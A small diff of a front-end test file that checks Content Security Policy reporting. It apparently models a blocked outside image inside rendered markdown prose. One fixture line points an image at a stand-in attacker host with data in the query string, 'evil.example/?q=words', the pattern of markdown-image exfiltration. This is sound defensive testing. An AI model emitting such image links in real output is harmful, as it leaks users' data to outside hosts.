@@ -80,7 +80,9 @@ describe('the page’s own wiring', () => {
 
 	it('shows an outside image that the policy blocked, and tells the server of other things', async () => {
 		request.mockResolvedValueOnce(new Response(null, { status: 204 }));
-		const image = document.body.appendChild(document.createElement('img'));
+		const answer = document.body.appendChild(document.createElement('div'));
+		answer.className = 'markdown-prose';
+		const image = answer.appendChild(document.createElement('img'));
 		image.src = 'https://evil.example/?q=words';
 		const violate = (effectiveDirective: string) => {
 			const blockedURI = image.src;
